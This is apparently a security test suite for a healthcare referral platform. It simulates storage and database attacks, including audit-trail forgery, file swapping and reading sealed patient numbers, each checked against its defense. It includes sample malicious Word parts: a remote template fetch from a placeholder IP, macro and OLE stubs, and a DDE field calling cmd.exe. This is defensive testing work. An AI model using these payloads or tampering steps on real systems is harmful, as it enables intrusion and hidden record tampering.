import { createHash } from 'node:crypto';
import * as z from 'zod';
import { api } from '@handoff/shared/contract/api';
import { EICAR } from '@handoff/local/malware-scan/scan-blob';
import { auditId } from '../../writes/audit-chain.ts';
import { pdf, referralDraft, zipOf } from '../examples/drafts.ts';
import { checkDraft } from '../examples/eligibility-examples.ts';
import { formerKeys } from '../key-rotation.ts';
import { HARBOR } from '../people.ts';
import { openNumbers } from '../../records/sealed-numbers.ts';
import { entriesAbout, recordPatients, type Attack, type Calls } from './attack.ts';
import { takingEveryDocument } from './composed-without.ts';
import {
  forgettingDeleted,
  takingEveryFile,
  takingEverySeal,
  withoutSealing,
  withoutSuspicion,
  withScannedDocuments,
} from './removed-defenses.ts';
import { edit, stored } from './stolen-database.ts';
import { AUDIT_HEAD } from '../../records/kinds/audit-records.ts';

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
const inHarbor = `d:${HARBOR}`;

/** Attacks by uploaded files, and by someone who controls the database or the storage. */
export const storageAttacks: Attack[] = [
  {
    finding: 'trail',
    name: 'put a change on someone else in the trail',
    async succeeds({ call, stolen }) {
      await recordPatients({ call }, 2);
      await expectWhole({ call });
      const trail = stolen.store.app(inHarbor);
      const { seq } = await stored(trail, AUDIT_HEAD);
      const { prev, entry } = await stored(trail, auditId(Number(seq)));
      const forged = String(entry).replace('Ana Intake', 'Bob Intake');
      const hash = sha256(`${String(prev)}${forged}`);
      await edit(trail, auditId(Number(seq)), () => ({ entry: forged, hash }));
      await edit(trail, AUDIT_HEAD, () => ({ hash }));
      return isFoundWhole({ call });
    },
    withoutDefense: ({ platform }) => ({ platform: { signingKeys: takingEverySeal(platform.signingKeys) } }),
  },
  {
    finding: 'trail',
    name: 'take out of the trail that someone looked',
    async succeeds({ call, stolen, pass }) {
      const [id = ''] = await recordPatients({ call }, 1);
      await call(api.referrals.byId, { query: { id } }, { as: 'vic' });
      await pass(1);
      await expectWhole({ call });
      const trail = stolen.store.app(inHarbor);
      const sql = "SELECT * FROM c WHERE c.type = 'audit-view'";
      const { documents } = await trail.query({ sql, parameters: {}, pageSize: 100 });
      for (const view of documents) await trail.remove(view.id, view._etag);
      const entries = await entriesAbout({ call }, id);
      if (entries.some(({ action }) => action === 'referral.viewed')) throw new Error('It is still there');
      return isFoundWhole({ call });
    },
    withoutDefense: () => ({ timers: false }),
  },
  {
    finding: 'files',
    name: 'have a file opened before it is scanned',
    async succeeds({ call }) {
      const { blobName } = await uploaded({ call }, EICAR);
      const answer = await call(api.services.downloadFile, { params: { blobName } }, { as: 'cal' });
      return answer.status === 200;
    },
    withoutDefense: ({ platform }) => ({ platform: { store: withScannedDocuments(platform.store) } }),
  },
  {
    finding: 'files',
    name: 'exchange a file in the storage for another',
    async succeeds({ call, stolen }) {
      const { blobName, Id } = await uploaded({ call }, 'as the hospital sent it');
      await edit(stolen.store.app(inHarbor), Id, ({ Scan }) => ({
        Scan: { ...Object(Scan), State: 'clean' },
      }));
      const name = `${HARBOR}/${blobName}`;
      const version = await stolen.blobs.version('documents', name);
      const bytes = Buffer.from('%PDF-1.4\n% exchanged\n%%EOF\n');
      const content = { bytes, type: 'application/pdf', version: version ?? '' };
      if (!(await stolen.blobs.replace('documents', name, content))) throw new Error('It was not exchanged');
      const answer = await call(api.services.downloadFile, { params: { blobName } }, { as: 'cal' });
      return answer.status === 200;
    },
    withoutDefense: ({ platform }) => ({ platform: { store: takingEveryFile(platform) } }),
  },
  {
    finding: 'late malware',
    name: 'have a file opened in which malware was found later',
    async succeeds({ call, scan }) {
      const { blobName } = await uploaded({ call }, 'of which nothing is known yet');
      const open = () => call(api.services.downloadFile, { params: { blobName } }, { as: 'cal' });
      await scan(blobName, 'No threats found');
      if ((await open()).status !== 200) throw new Error('It was never clean');
      await scan(blobName, 'Malicious');
      return (await open()).status === 200;
    },
    withoutDefense: ({ platform }) => ({ platform: { store: withScannedDocuments(platform.store) } }),
  },
  {
    finding: 'active documents',
    name: 'attach a Word document that fetches a template, runs a macro or a field, or holds an object',
    async succeeds({ call }) {
      const [ReferralId = ''] = await recordPatients({ call }, 1);
      const fields = { DocumentTypeId: 'orders', ReferralId };
      const answers = await Promise.all(
        activeDocuments.map((file) => call(api.services.uploadFile, { fields, file }, { as: 'ana' })),
      );
      return answers.some(({ status }) => status === 200);
    },
    withoutDefense: () => ({ app: { create: takingEveryDocument } }),
  },
  {
    finding: 'file before record',
    name: 'leave the file of a deleted document in the storage after its record is gone',
    async succeeds({ call, stolen, pass }) {
      const { blobName, Id } = await uploaded({ call }, 'as the hospital sent it');
      (await call(api.services.deleteFile, { params: { blobName } }, { as: 'ana' })).ok();
      for (let days = 0; days < 32; days += 4) await pass(4);
      if (await stolen.store.app(inHarbor).read(Id)) throw new Error('Its record is still there');
      return stolen.blobs.exists('documents', `${HARBOR}/${blobName}`);
    },
    withoutDefense: ({ platform }) => ({ platform: { store: forgettingDeleted(platform.store) } }),
  },
  {
    finding: 'deleted',
    name: 'find the file of a deleted patient in the storage when its time is over',
    async succeeds({ call, stolen, pass }) {
      const { blobName, ReferralId } = await uploaded({ call }, 'as the hospital sent it');
      (await call(api.referrals.remove, { body: { Id: ReferralId ?? '' } }, { as: 'ana' })).ok();
      const isThere = () => stolen.blobs.exists('documents', `${HARBOR}/${blobName}`);
      if (!(await isThere())) throw new Error('It cannot be brought back');
      await pass(31);
      return isThere();
    },
    withoutDefense: () => ({ timers: false }),
  },
  {
    finding: 'old keys',
    name: 'read the number of a patient with a key that was replaced',
    async succeeds({ call, stolen, renewKeys }) {
      const draft = referralDraft();
      const body = { ...draft, Patient: { ...draft.Patient, Ssn: '219-09-9999' } };
      const [made] = (await call(api.referrals.create, { body }, { as: 'ana' })).ok().ReferralInfo;
      await renewKeys();
      const { id, Sealed } = Sealing.parse(await stored(stolen.store.app(inHarbor), made?.Id ?? ''));
      try {
        const numbers = await openNumbers(formerKeys, { domainId: HARBOR, id }, { Sealed });
        return Object.keys(numbers).includes('Patient.Ssn');
      } catch {
        return false;
      }
    },
    withoutDefense: () => ({ timers: false }),
  },
  {
    finding: 'typed numbers',
    name: 'have a number typed into a note stay there without a warning',
    async succeeds({ call }) {
      const [id = ''] = await recordPatients({ call }, 1);
      const body = { ReferralId: id, ReferralNotes: [{ Text: 'SSN 219-09-9999, card 1eg4-te5-mk73.' }] };
      (await call(api.referrals.updateNotes, { body }, { as: 'cal' })).ok();
      const [note] = (await call(api.referrals.byId, { query: { id } }, { as: 'ana' })).ok().ReferralNotes;
      return (note?.SuspectedNumbers ?? []).length < 2;
    },
    withoutDefense: ({ platform }) => ({ platform: { store: withoutSuspicion(platform.store) } }),
  },
  {
    finding: 'raw exchanges',
    name: 'read the number of a patient in the raw answers of payers',
    async succeeds({ call, stolen }) {
      const { CheckId } = (
        await call(api.medicareEligibility.check, { body: checkDraft() }, { as: 'ana' })
      ).ok();
      const names = await stolen.blobs.names('payer-exchanges', `${HARBOR}/${CheckId}`);
      if (names.length === 0) throw new Error('No exchange was kept');
      const files = await Promise.all(names.map((name) => stolen.blobs.read('payer-exchanges', name)));
      return files.some((file) => Buffer.from(file?.bytes ?? []).includes('1EG4TE5MK00'));
    },
    withoutDefense: ({ platform }) => ({ platform: { fieldKeys: withoutSealing(platform.fieldKeys) } }),
  },
];

const Sealing = z.object({ id: z.string(), Sealed: z.record(z.string(), z.string()) });

const parts = { '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>' };
const relation =
  '<Relationships><Relationship Type="http://a/relationships/attachedTemplate" Target="http://203.0.113.7/a.dotm"' +
  ' TargetMode="External"/></Relationships>';
export const activeDocuments = [
  { 'word/_rels/settings.xml.rels': relation },
  { 'word/VBAPROJECT.BIN': 'x' },
  { 'word/embeddings/oleObject1.BIN': 'x' },
  { 'word/v.dat': 'x' },
  { 'word/_rels/a.xml.rels': '<Relationship Type="http://example.org/vba&#80;roject" Target="a.png"/>' },
  { 'word/a.xml': '<instrText>DDE</instrText><instrText>AUTO c:\\\\cmd.exe</instrText>' },
].map((more) => new File([zipOf({ ...parts, ...more })], 'letter.docx'));

async function uploaded({ call }: Calls, content: string) {
  const [ReferralId = ''] = await recordPatients({ call }, 1);
  const input = { fields: { DocumentTypeId: 'orders', ReferralId }, file: pdf(content) };
  const [document] = (await call(api.services.uploadFile, input, { as: 'ana' })).ok().ReferralDocuments;
  if (!document) throw new Error('Nothing was attached');
  return document;
}

async function expectWhole(calls: Calls): Promise<void> {
  if (!(await isFoundWhole(calls))) throw new Error('The trail is broken before anyone touched it');
}

async function isFoundWhole({ call }: Calls): Promise<boolean> {
  const [found] = (await call(api.audit.verify, { query: {} }, { as: 'mia' })).ok().AuditVerification;
  const { BrokenAt, ViewsBrokenOn, AnchorBrokenOn } = found ?? {};
  return found?.Head === 'sealed' && [BrokenAt, ViewsBrokenOn, AnchorBrokenOn].every((at) => at === null);
}
